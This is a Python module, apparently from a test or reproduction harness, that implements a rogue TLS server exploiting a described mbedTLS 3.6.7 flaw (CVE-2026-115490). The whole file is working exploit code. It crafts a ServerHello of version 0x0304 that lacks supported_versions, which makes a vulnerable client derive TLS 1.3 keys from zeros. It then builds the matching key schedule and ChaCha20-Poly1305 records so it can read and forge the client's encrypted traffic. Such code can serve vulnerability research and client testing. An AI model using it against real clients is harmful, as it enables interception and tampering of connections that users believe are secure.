# SPDX-License-Identifier: ISC
"""A server that talks mbedTLS 3.6.7 into TLS 1.3 without a secret: a
ServerHello without supported_versions, of version 0x0304 (CVE-2026-115490).

Whoever falls for it derives the keys of TLS 1.3 (RFC 8446 section 7.1) from
nothing but zeros and what went over the wire in clear. This server does the
same, signs with its own good certificate, and so can serve a whole delivery.
"""

import hashlib
import hmac
import socket
import ssl
import struct
import subprocess

ALERT, HANDSHAKE, TEXT = 21, 22, 23
CLIENT_HELLO, SERVER_HELLO, CERTIFICATE = 1, 2, 11
CERTIFICATE_VERIFY, FINISHED, MESSAGE_HASH = 15, 20, 254
SUITE = 0x1303  # TLS_CHACHA20_POLY1305_SHA256
SECP256R1_SHA256, SECP384R1 = 0x0403, 0x0018
RETRY = hashlib.sha256(b"HelloRetryRequest").digest()
ZEROS = bytes(32)
SIGNED = b" " * 64 + b"TLS 1.3, server CertificateVerify\0"


class Refused(Exception):
    """The client did not fall for it."""


def sha256(data):
    return hashlib.sha256(data).digest()


def hmac256(key, data):
    return hmac.new(key, data, hashlib.sha256).digest()


def expand(secret, label, context, size):
    """HKDF-Expand-Label, of up to one hash."""
    label = b"tls13 " + label
    info = (struct.pack("!HB", size, len(label)) + label
            + bytes([len(context)]) + context)
    return hmac256(secret, info + b"\1")[:size]


def chacha20(key, counter, nonce, data):
    """RFC 8439 section 2.4."""
    out = bytearray()
    for at in range(0, len(data), 64):
        start = (list(struct.unpack("<4I", b"expand 32-byte k"))
                 + list(struct.unpack("<8I", key))
                 + [counter + at // 64] + list(struct.unpack("<3I", nonce)))
        state = start[:]
        for _ in range(10):
            for step in range(4):
                quarter(state, step, 4 + step, 8 + step, 12 + step)
            for step in range(4):
                quarter(state, step, 4 + (step + 1) % 4, 8 + (step + 2) % 4,
                        12 + (step + 3) % 4)
        stream = struct.pack("<16I", *((a + b) & 0xffffffff
                                       for a, b in zip(state, start)))
        out += bytes(a ^ b for a, b in zip(data[at:at + 64], stream))
    return bytes(out)


def quarter(state, a, b, c, d):
    for one, two, three, bits in ((a, b, d, 16), (c, d, b, 12),
                                  (a, b, d, 8), (c, d, b, 7)):
        state[one] = (state[one] + state[two]) & 0xffffffff
        mixed = state[three] ^ state[one]
        state[three] = (mixed << bits | mixed >> (32 - bits)) & 0xffffffff


def tag_of(key, nonce, header, sealed):
    """Poly1305 as RFC 8439 section 2.8 uses it."""
    def padded(data):
        return data + bytes(-len(data) % 16)

    once = chacha20(key, 0, nonce, bytes(32))
    r = int.from_bytes(once[:16], "little") & 0x0ffffffc0ffffffc0ffffffc0fffffff
    total = 0
    data = (padded(header) + padded(sealed)
            + struct.pack("<QQ", len(header), len(sealed)))
    for at in range(0, len(data), 16):
        block = int.from_bytes(data[at:at + 16] + b"\1", "little")
        total = (total + block) * r % (2**130 - 5)
    total += int.from_bytes(once[16:], "little")
    return (total % 2**128).to_bytes(16, "little")


class Keys:
    """One direction of the records."""

    def __init__(self, secret):
        self.key = expand(secret, b"key", b"", 32)
        self.iv = int.from_bytes(expand(secret, b"iv", b"", 12), "big")
        self.count = 0

    def nonce(self):
        nonce = (self.iv ^ self.count).to_bytes(12, "big")
        self.count += 1
        return nonce

    def seal(self, text):
        nonce = self.nonce()
        header = struct.pack("!BHH", TEXT, 0x0303, len(text) + 1 + 16)
        sealed = chacha20(self.key, 1, nonce, text + bytes([TEXT]))
        return header + sealed + tag_of(self.key, nonce, header, sealed)

    def open(self, header, body):
        nonce = self.nonce()
        sealed, tag = body[:-16], body[-16:]
        if tag_of(self.key, nonce, header, sealed) != tag:
            raise Refused("the client has other keys")
        inner = chacha20(self.key, 1, nonce, sealed).rstrip(b"\0")
        return inner[-1], inner[:-1]


class ZeroKeys:
    """A connection on which the client was talked into it."""

    def __init__(self, connection, certificate, retry=False, echo=False):
        self.connection = connection
        self.heard = b""
        self.talk = b""  # the transcript
        self.flight = b""  # sent before the client is listened to
        self.pending = b""
        connection.settimeout(10)
        session = self.hear_hello()
        if retry:
            self.ask_again(session)
        self.say(SERVER_HELLO, self.hello(0x0304, bytes(range(32)),
                                          session if echo else b"", b""))
        self.prove(certificate)
        self.derive()

    def exactly(self, size):
        self.connection.sendall(self.flight)
        self.flight = b""
        while len(self.heard) < size:
            data = self.connection.recv(65536)
            if not data:
                raise Refused("the client left")
            self.heard += data
        data, self.heard = self.heard[:size], self.heard[size:]
        return data

    def record(self):
        header = self.exactly(5)
        return header, self.exactly(struct.unpack("!H", header[3:])[0])

    def handshake(self):
        """The next message of the client, without its CCS."""
        while True:
            header, body = self.record()
            if header[0] == ALERT:
                raise Refused(f"alert {body[1]}")
            if header[0] == HANDSHAKE:
                return body

    def hear_hello(self):
        body = self.handshake()
        assert body[0] == CLIENT_HELLO, body[0]
        self.talk += body
        return body[39:39 + body[38]]  # legacy_session_id

    def say(self, kind, body):
        message = struct.pack("!I", kind << 24 | len(body)) + body
        self.talk += message
        self.flight += struct.pack("!BHH", HANDSHAKE, 0x0303, len(message)) + message

    @staticmethod
    def hello(version, random, session, extensions):
        return (struct.pack("!H", version) + random + bytes([len(session)])
                + session + struct.pack("!HBH", SUITE, 0, len(extensions))
                + extensions)

    def ask_again(self, session):
        """A HelloRetryRequest that is in order (section 4.4.1)."""
        self.talk = (struct.pack("!I", MESSAGE_HASH << 24 | 32)
                     + sha256(self.talk))
        extensions = (struct.pack("!HHH", 43, 2, 0x0304)
                      + struct.pack("!HHH", 51, 2, SECP384R1))
        self.say(SERVER_HELLO, self.hello(0x0303, RETRY, session, extensions))
        self.hear_hello()

    def prove(self, certificate):
        with open(certificate.cert) as file:
            der = ssl.PEM_cert_to_DER_cert(file.read())
        entry = len(der).to_bytes(3, "big") + der + b"\0\0"
        self.say(CERTIFICATE, b"\0" + len(entry).to_bytes(3, "big") + entry)
        run = subprocess.run(
            ["openssl", "dgst", "-sha256", "-sign", certificate.key],
            input=SIGNED + sha256(self.talk), capture_output=True, check=True)
        self.say(CERTIFICATE_VERIFY, struct.pack(
            "!HH", SECP256R1_SHA256, len(run.stdout)) + run.stdout)
        key = expand(ZEROS, b"finished", b"", 32)
        self.say(FINISHED, hmac256(key, sha256(self.talk)))

    def derive(self):
        salt = expand(ZEROS, b"derived", sha256(b""), 32)
        master, talk = hmac256(salt, ZEROS), sha256(self.talk)
        self.theirs = Keys(expand(master, b"c ap traffic", talk, 32))
        self.ours = Keys(expand(master, b"s ap traffic", talk, 32))
        finished = self.handshake()
        key = expand(ZEROS, b"finished", b"", 32)
        assert finished[4:] == hmac256(key, talk), "the client has other keys"

    def recv(self, size):
        while not self.pending:
            header, body = self.record()
            kind, text = self.theirs.open(header, body)
            if kind == ALERT:
                return b""
            self.pending = text
        data, self.pending = self.pending[:size], self.pending[size:]
        return data

    def sendall(self, data):
        self.connection.sendall(self.ours.seal(data))

    def describe(self):
        return None

    def close(self):
        try:
            self.connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        self.connection.close()


def zero_keys(certificate, **how):
    def upgrade(connection):
        return ZeroKeys(connection, certificate, **how)

    return upgrade
